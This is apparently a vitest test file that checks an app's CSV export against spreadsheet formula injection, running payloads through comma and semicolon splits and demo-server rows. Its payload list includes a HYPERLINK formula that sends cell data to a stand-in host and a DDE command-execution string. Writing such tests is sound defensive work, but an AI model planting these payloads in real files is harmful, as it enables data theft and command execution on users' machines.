// No reading of a CSV the app writes starts a formula in any cell: split at `,` (RFC 4180) or at
// `;` (Excel in many European locales), by a reader that honours quotes or by one that splits
// every line and every separator whatever the quotes. Every list of the registry, its demo page's
// rows with every string replaced by a payload that starts a formula after a `;`, a `,`, a line
// break or spaces.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AnyRow } from '../../src/api/pages.js';
import { csvCell, csvEncoder } from '../../src/data/csv.js';
import { LIST_KINDS, LIST_NAMES, isDrillList, type ListKind } from '../../src/lists/names.js';
import { fetchPage, listDef } from '../../src/lists/registry.js';
import type { AnyQuery } from '../../src/lists/types.js';
import { DEMO, startDemoServer, type DemoServer } from 'openim-demo-server';
import { demoClient } from '../support/demoClient.js';

const PAYLOADS = [
  'x;=HYPERLINK("http://evil.example/?"&A1,"y")',
  "y;+cmd|' /C calc'!A0",
  'a\n=1+1',
  'a\r\n@SUM(A1)',
  'a, -2+3',
  'b;  =1',
  ' =1',
  '\t=1',
  'ok;\uFF1D1',
  '=1;=2,=3\n=4',
];

/** A spreadsheet reads a cell as a formula when it starts (after spaces a reader may trim) with one of these. */
const FORMULA_START = /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;
/** A number (a negative count, a time before 1970) is read as a number, not run. */
const NUMBER = /^-?\d+$/;
const FORMULA = { test: (cell: string): boolean => FORMULA_START.test(cell) && !NUMBER.test(cell) };

/** RFC 4180 at `sep`, quotes honoured. */
function quoted(csv: string, sep: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let inQuotes = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i]!;
    if (inQuotes) {
      if (c === '"' && csv[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') inQuotes = false;
      else cell += c;
    } else if (c === '"') inQuotes = true;
    else if (c === sep || c === '\n') {
      cells.push(cell);
      cell = '';
    } else if (c !== '\r') cell += c;
  }
  cells.push(cell);
  return cells;
}

/** Every line and every `sep`, whatever the quotes (a reader that does not honour them). */
const naive = (csv: string, sep: string): string[] => csv.split(/\r?\n|\r/).flatMap((line) => line.split(sep));

const readings = (csv: string): [string, string[]][] => [
  ['quoted ,', quoted(csv, ',')],
  ['quoted ;', quoted(csv, ';')],
  ['naive ,', naive(csv, ',')],
  ['naive ;', naive(csv, ';')],
];

describe('csvCell at every split', () => {
  it.each(PAYLOADS)('%j starts no formula in any reading', (payload) => {
    const cell = csvCell(payload);
    for (const [reading, cells] of readings(cell)) for (const c of cells) expect(c, `${reading} of ${JSON.stringify(cell)}`).not.toSatisfy((c: string) => FORMULA.test(c));
  });

  it('keeps the text whole for a reader that honours quotes, at `,` and at `;`', () => {
    expect(csvCell('x;=HYPERLINK("h")')).toBe(`"x;'=HYPERLINK(""h"")"`);
    expect(quoted(csvCell('a;b'), ';')).toEqual(['a;b']);
    expect(csvCell('a\n=1')).toBe(`"a\n'=1"`);
    expect(csvCell('plain text, no formula')).toBe('"plain text, no formula"');
  });
});

let demo: DemoServer;
const NOW = Date.UTC(2026, 10, 26, 14, 2, 11);
const rows = new Map<ListKind, readonly AnyRow[]>();
const queryFor = (kind: ListKind): AnyQuery => {
  const def = listDef(kind);
  const parent = LIST_KINDS.find((k) => listDef(k).opens?.kind === kind);
  const row = parent && rows.get(parent)?.[0];
  if (parent && row) return listDef(parent).opens!.query(row, DEMO.firstUserID);
  return def.query.emptyUntilAsked && def.query.prompt ? def.query.prompt.answer(DEMO.firstUserID, def.query.initial) : def.query.initial;
};
beforeAll(async () => {
  // One instant for the demo's data and the client's days (the pulse, a top list's day).
  demo = await startDemoServer({ users: 20, nowMs: NOW });
  for (const kind of [...LIST_KINDS.filter((k) => !isDrillList(k)), ...LIST_KINDS.filter(isDrillList)]) {
    const page = await fetchPage(
      demoClient(demo, { now: () => NOW }),
      { kind, ...(LIST_NAMES[kind].place !== 'top' ? { userID: DEMO.firstUserID } : {}), page: 1, size: 20, query: queryFor(kind) },
      new AbortController().signal,
    );
    rows.set(kind, page.rows);
  }
});
afterAll(() => demo.close());

/** The row with every string in it (at any depth) replaced by a payload, in turn. */
function hostile(value: unknown, next: () => string): unknown {
  if (typeof value === 'string') return next();
  if (Array.isArray(value)) return value.map((v) => hostile(v, next));
  if (value !== null && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, hostile(v, next)]));
  return value;
}

describe("every list's CSV", () => {
  it.each(LIST_KINDS)('%s: no cell of any reading starts a formula', (kind) => {
    const page = rows.get(kind)!;
    expect(page.length, `the demo's ${kind}`).toBeGreaterThan(0);
    let n = 0;
    const next = (): string => PAYLOADS[n++ % PAYLOADS.length]!;
    const encoder = csvEncoder(kind, DEMO.firstUserID);
    const body = encoder.rows(page.map((row) => hostile(row, next) as AnyRow));
    expect(n, 'payloads placed').toBeGreaterThan(0);
    for (const [reading, cells] of readings(body)) {
      const bad = cells.filter((c) => FORMULA.test(c));
      expect(bad, `${kind}, ${reading}`).toEqual([]);
    }
  });
});
